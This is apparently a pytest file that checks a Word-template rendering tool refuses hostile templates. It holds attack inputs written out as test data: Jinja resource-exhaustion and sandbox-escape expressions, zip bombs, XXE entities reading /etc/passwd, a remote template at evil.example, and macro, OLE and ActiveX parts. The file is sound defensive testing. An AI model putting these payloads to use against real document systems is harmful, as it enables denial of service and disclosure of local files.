"""Templates under attack (issue 15, findings 12-15): what a compliance officer's .docx may not
do, refused by ``iapme templates check`` and by the run before any client is written.

Each case edits a copy of the shipped charter (real zip entries) and runs the real command
in a subprocess with a memory limit and a timeout, since the old code exhausted both. The two
guards it goes through, the package check and the render budget, are also tried in process,
case by case (``TestCheckPackage``, ``TestBudget``).
"""

from __future__ import annotations

import resource
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from jinja2.exceptions import SecurityError

from engine.common.zipio import build_zip
from engine.documents.package import check_package
from engine.documents.sandbox import BudgetError, Limits, budget, make_environment, render_stream

HOME_OF = ("engine.documents.package", "engine.documents.sandbox")

ROOT = Path(__file__).resolve().parents[2]
RULES, TEMPLATES = ROOT / "rules", ROOT / "doc_templates"
GOOD = ROOT / "tests" / "data" / "profiles" / "dupont.yaml"
SMALL = ROOT / "inputs" / "plomberie-martin.yaml"
Entries = dict[str, bytes]
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
NS_REL = "http://schemas.openxmlformats.org/package/2006/relationships"


def _limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (3 * 2**30, 3 * 2**30))


def iapme(*args: object, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    done = subprocess.run([sys.executable, "-m", "engine", *map(str, args)],
                          capture_output=True, text=True, timeout=timeout, check=False,
                          preexec_fn=_limit_memory)
    assert "Traceback" not in done.stderr + done.stdout, done.stderr
    assert "internal error" not in done.stderr, done.stderr
    return done


def templates_with(tmp_path: Path, edit: Callable[[Entries], None],
                   raw: Callable[[Path], None] | None = None) -> Path:
    """A copy of the shipped templates whose charter's entries went through ``edit``."""
    folder = tmp_path / "templates"
    shutil.copytree(TEMPLATES, folder)
    charter = folder / "charte-ia.docx"
    with zipfile.ZipFile(charter) as source:
        entries = {info.filename: source.read(info) for info in source.infolist()}
    edit(entries)
    charter.write_bytes(build_zip(entries.items()))
    if raw is not None:
        raw(charter)
    return folder


def in_body(text: str) -> Callable[[Entries], None]:
    def edit(entries: Entries) -> None:
        xml = entries["word/document.xml"].decode("utf-8")
        assert "{{ as_of }}" in xml
        entries["word/document.xml"] = xml.replace("{{ as_of }}", text, 1).encode("utf-8")
    return edit


def add_relationship(part_rels: str, rel_type: str, target: str, *, external: bool = False,
                     part: tuple[str, bytes] | None = None,
                     content_type: tuple[str, str] | None = None) -> Callable[[Entries], None]:
    def edit(entries: Entries) -> None:
        mode = ' TargetMode="External"' if external else ""
        rel = f'<Relationship Id="rIdEvil" Type="{rel_type}" Target="{target}"{mode}/>'
        old = entries.get(part_rels, f'<Relationships xmlns="{NS_REL}"></Relationships>'.encode())
        entries[part_rels] = old.replace(b"</Relationships>", rel.encode() + b"</Relationships>")
        if part is not None:
            entries[part[0]] = part[1]
        if content_type is not None:
            override = (f'<Override PartName="/{content_type[0]}" '
                        f'ContentType="{content_type[1]}"/>').encode()
            entries["[Content_Types].xml"] = entries["[Content_Types].xml"].replace(
                b"</Types>", override + b"</Types>")
    return edit


def refused(tmp_path: Path, templates: Path, *fragments: str) -> None:
    """``templates check`` and ``run`` both refuse, naming the charter; nothing is written."""
    check = iapme("templates", "check", "--templates", templates)
    assert check.returncode == 1, check.stdout + check.stderr
    for fragment in fragments:
        assert fragment in check.stderr, (fragment, check.stderr)
    assert f"{templates / 'charte-ia.docx'}" in check.stderr
    out = tmp_path / "out"
    done = iapme("run", GOOD, "--out", out, "--rules", RULES, "--templates", templates,
                 "--jobs", "1", "--as-of", "2026-11-26")
    assert done.returncode == 1, done.stderr
    assert f"error: {templates / 'charte-ia.docx'}" in done.stderr
    assert not (out / "dupont").exists()


BUDGET = "the template needs more than the render budget"


class TestRenderBudget:
    """Finding 12: a template cannot exhaust memory or CPU, nor hang the check."""

    @pytest.mark.parametrize("text", [
        "{{ client.name * 100000000 }}",
        "{{ 10**(10**9) }}",
        "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
        "{{ client.name|center(999999999) }}",
        "{{ '%0999999999d' % 1 }}",
        "{% set ns = namespace(s='x') %}{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}"
        "{% endfor %}{{ ns.s }}",
    ], ids=["multiply", "power", "loops", "center", "percent", "doubling"])
    def test_refused_before_any_client(self, tmp_path: Path, text: str) -> None:
        refused(tmp_path, templates_with(tmp_path, in_body(text)),
                "charte-ia.docx: body: ", BUDGET)

    def test_a_macro_calling_itself(self, tmp_path: Path) -> None:
        text = "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}"
        refused(tmp_path, templates_with(tmp_path, in_body(text)), "calls itself without end")

    def test_data_dependent_breach_blames_the_template(self, tmp_path: Path) -> None:
        """Harmless on the sample (one employee), over budget for a client of 60: that client
        is refused with the template named, the other client is written."""
        templates = templates_with(tmp_path, in_body(
            "{{ client.name * (client.employees|int * 1000000) }}"))
        assert iapme("templates", "check", "--templates", templates).returncode == 0
        out = tmp_path / "out"
        small = tmp_path / "small.yaml"
        small.write_text(SMALL.read_text(encoding="utf-8").replace(
            "employees: 8", "employees: 1"), encoding="utf-8")
        done = iapme("run", GOOD, small, "--out", out, "--rules", RULES, "--templates",
                     templates, "--jobs", "1", "--as-of", "2026-11-26")
        assert done.returncode == 1, done.stderr
        (line,) = [x for x in done.stderr.splitlines() if x.startswith("error: ")]
        assert line.startswith(f"error: {templates / 'charte-ia.docx'}: body: {BUDGET}"), line
        assert str(GOOD) in line  # and the profile it was rendering
        assert not (out / "dupont").exists()
        assert (out / "plomberie-martin" / "charte-ia.docx").is_file()


def _bomb(name: str, size: int) -> Callable[[Path], None]:
    """Append a deflated entry of ``size`` zero bytes (a few hundred kB on disk)."""
    def add(path: Path) -> None:
        chunk = bytes(2**20)
        with zipfile.ZipFile(path, "a") as archive:
            info = zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            with archive.open(info, "w", force_zip64=True) as stream:
                for _ in range(size // len(chunk)):
                    stream.write(chunk)
    return add


class TestZipLimits:
    """Finding 13: a small template inflating to gigabytes is refused without inflating it."""

    def test_huge_entry(self, tmp_path: Path) -> None:
        templates = templates_with(tmp_path, lambda e: None,
                                   _bomb("word/media/image9.png", 300 * 2**20))
        assert (templates / "charte-ia.docx").stat().st_size < 2 * 2**20
        refused(tmp_path, templates, "word/media/image9.png inflates to 314,572,800 bytes")

    def test_entry_inflating_a_thousand_times(self, tmp_path: Path) -> None:
        templates = templates_with(tmp_path, lambda e: None,
                                   _bomb("word/media/image9.png", 8 * 2**20))
        refused(tmp_path, templates, "word/media/image9.png inflates", "times its stored size")


class TestPackageXml:
    """Finding 14: a damaged or DOCTYPE-bearing [Content_Types].xml is refused at check time."""

    def test_damaged_content_types(self, tmp_path: Path) -> None:
        def cut(entries: Entries) -> None:
            entries["[Content_Types].xml"] = entries["[Content_Types].xml"][:200]
        refused(tmp_path, templates_with(tmp_path, cut),
                "charte-ia.docx: [Content_Types].xml: is not well-formed XML")

    def test_doctype_in_content_types(self, tmp_path: Path) -> None:
        def doctype(entries: Entries) -> None:
            xml = entries["[Content_Types].xml"].decode("utf-8")
            head, _, body = xml.partition("?>")
            entries["[Content_Types].xml"] = (
                head + '?><!DOCTYPE Types [<!ENTITY leak SYSTEM "file:///etc/hostname">]>'
                + body.replace('Extension="xml"', 'Extension="&leak;"', 1)).encode("utf-8")
        refused(tmp_path, templates_with(tmp_path, doctype),
                "charte-ia.docx: [Content_Types].xml: declares a DOCTYPE")

    def test_doctype_in_a_copied_part(self, tmp_path: Path) -> None:
        def doctype(entries: Entries) -> None:
            entries["word/settings.xml"] = entries["word/settings.xml"].replace(
                b"?>", b'?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', 1)
        refused(tmp_path, templates_with(tmp_path, doctype),
                "charte-ia.docx: word/settings.xml: declares a DOCTYPE")


class TestPackageParts:
    """Finding 15: nothing that runs or reaches out is copied into the deliverables."""

    def test_remote_attached_template(self, tmp_path: Path) -> None:
        edit = add_relationship("word/_rels/settings.xml.rels", R + "attachedTemplate",
                                "http://evil.example/modele.dotm", external=True)
        refused(tmp_path, templates_with(tmp_path, edit),
                "charte-ia.docx: word/_rels/settings.xml.rels: the 'attachedTemplate' "
                "relationship points outside the document (http://evil.example/modele.dotm)")

    def test_external_image(self, tmp_path: Path) -> None:
        edit = add_relationship("word/_rels/document.xml.rels", R + "image",
                                "http://tracker.example/pixel.png", external=True)
        refused(tmp_path, templates_with(tmp_path, edit), "'image' relationship points outside")

    @pytest.mark.parametrize(("rel_type", "part", "content_type"), [
        ("http://schemas.microsoft.com/office/2006/relationships/vbaProject",
         "word/vbaProject.bin", "application/vnd.ms-office.vbaProject"),
        (R + "oleObject", "word/embeddings/oleObject1.bin",
         "application/vnd.openxmlformats-officedocument.oleObject"),
        (R + "control", "word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
    ], ids=["macros", "ole", "activex"])
    def test_active_content(self, tmp_path: Path, rel_type: str, part: str,
                            content_type: str) -> None:
        data = b"<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>" \
            if part.endswith(".xml") else b"\xd0\xcf\x11\xe0 binary"
        edit = add_relationship("word/_rels/document.xml.rels", rel_type,
                                part.removeprefix("word/"), part=(part, data),
                                content_type=(part, content_type))
        refused(tmp_path, templates_with(tmp_path, edit), f"charte-ia.docx: {part}: ",
                "not allowed in a template")

    def test_macro_enabled_main_part(self, tmp_path: Path) -> None:
        def docm(entries: Entries) -> None:
            entries["[Content_Types].xml"] = entries["[Content_Types].xml"].replace(
                b"wordprocessingml.document.main+xml",
                b"../vnd.ms-word.document.macroEnabled.main+xml")
        refused(tmp_path, templates_with(tmp_path, docm), "[Content_Types].xml: declares",
                "macroenabled")

    def test_external_hyperlink_is_fine(self, tmp_path: Path) -> None:
        edit = add_relationship("word/_rels/document.xml.rels", R + "hyperlink",
                                "https://www.cnil.fr/", external=True)
        done = iapme("templates", "check", "--templates", templates_with(tmp_path, edit))
        assert done.returncode == 0, done.stderr


def _charter_entries(*edits: Callable[[Entries], None]) -> Entries:
    with zipfile.ZipFile(TEMPLATES / "charte-ia.docx") as source:
        entries = {info.filename: source.read(info) for info in source.infolist()}
    for edit in edits:
        edit(entries)
    return entries


class TestCheckPackage:
    """engine.documents.package on the charter's entries, without a subprocess."""

    CHARTER = Path("modeles/charte-ia.docx")

    def test_the_shipped_templates_pass(self) -> None:
        for path in sorted(TEMPLATES.glob("*.docx")):
            with zipfile.ZipFile(path) as source:
                entries = {info.filename: source.read(info) for info in source.infolist()}
            assert check_package(path, entries) == [], path.name

    @pytest.mark.parametrize(("edit", "parts", "words"), [
        (add_relationship("word/_rels/settings.xml.rels", R + "attachedTemplate",
                          "http://evil.example/modele.dotm", external=True),
         ("word/_rels/settings.xml.rels",), "the 'attachedTemplate' relationship points outside"),
        (add_relationship("word/_rels/document.xml.rels", R + "oleObject",
                          "embeddings/x.bin", part=("word/embeddings/x.bin", b"\xd0\xcf")),
         ("word/_rels/document.xml.rels", "word/embeddings/x.bin"), "not allowed in a template"),
        (add_relationship("word/_rels/document.xml.rels", R + "aFChunk", "chunk.mht"),
         ("word/_rels/document.xml.rels",), "'aFChunk' relationship is not allowed"),
        (lambda e: e.update({"word/settings.xml": e["word/settings.xml"].replace(
            b"?>", b"?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", 1)}),
         ("word/settings.xml",), "declares a DOCTYPE"),
        (lambda e: e.update({"word/script.js": b"alert(1)"}), ("word/script.js",),
         "a '.js' file has no place in a Word template"),
    ], ids=["remote-template", "ole", "unknown-relationship", "doctype", "script"])
    def test_a_refused_part_is_named(self, edit: Callable[[Entries], None],
                                     parts: tuple[str, ...], words: str) -> None:
        issues = check_package(self.CHARTER, _charter_entries(edit))
        assert sorted((i.location.file, i.location.key_path) for i in issues) == [
            (str(self.CHARTER), part) for part in parts]
        assert any(words in i.message for i in issues), issues

    def test_one_pass_names_every_refused_part(self) -> None:
        issues = check_package(self.CHARTER, _charter_entries(
            lambda e: e.update({"word/a.exe": b"MZ"}),
            lambda e: e.update({"word/vbaProject.bin": b"\xd0\xcf"})))
        assert sorted(i.location.key_path or "" for i in issues) == [
            "word/a.exe", "word/vbaProject.bin"]

    def test_a_zip_that_is_not_word(self) -> None:
        (issue,) = check_package(self.CHARTER, {"word/document.xml": b"<a/>"})
        assert "not a Word document (no [Content_Types].xml)" in issue.message


def _render(source: str, limits: Limits, **context: object) -> str:
    with budget(limits):
        return render_stream(make_environment().from_string(source), dict(context))


class TestBudget:
    """engine.documents.sandbox in process: refused before the text is built, and the same
    template with the same data always passes or always fails (steps and sizes, not time)."""

    @pytest.mark.parametrize("source", [
        "{{ name * 100000000 }}",
        "{{ 10**(10**9) }}",
        "{{ name|center(999999999) }}",
        "{{ '%0999999999d' % 1 }}",
        "{{ '{:>999999999}'.format(name) }}",
        "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
    ], ids=["multiply", "power", "center", "percent", "format", "loops"])
    def test_refused(self, source: str) -> None:
        with pytest.raises(BudgetError):
            _render(source, Limits(), name="Plomberie Martin")

    def test_the_step_budget_is_deterministic(self) -> None:
        loop = "{% for i in range(n) %}{{ i }}{% endfor %}"
        limits = Limits(steps=2_000)
        assert _render(loop, limits, n=100).startswith("0123")
        for _ in range(3):
            with pytest.raises(BudgetError, match="more than 2,000 steps"):
                _render(loop, limits, n=1_000)

    def test_the_output_is_measured_as_it_streams(self) -> None:
        """Each piece is small; the document as a whole is over the limit."""
        source = "{% for i in range(30) %}{{ 'x' * 10 }}{% endfor %}"
        assert len(_render(source, Limits(chars=300))) == 300
        with pytest.raises(BudgetError, match="a document of more than 299 characters"):
            _render(source, Limits(chars=299))

    def test_python_internals_stay_out_of_reach(self) -> None:
        with pytest.raises(SecurityError):
            _render("{{ ''.__class__.__mro__ }}", Limits())
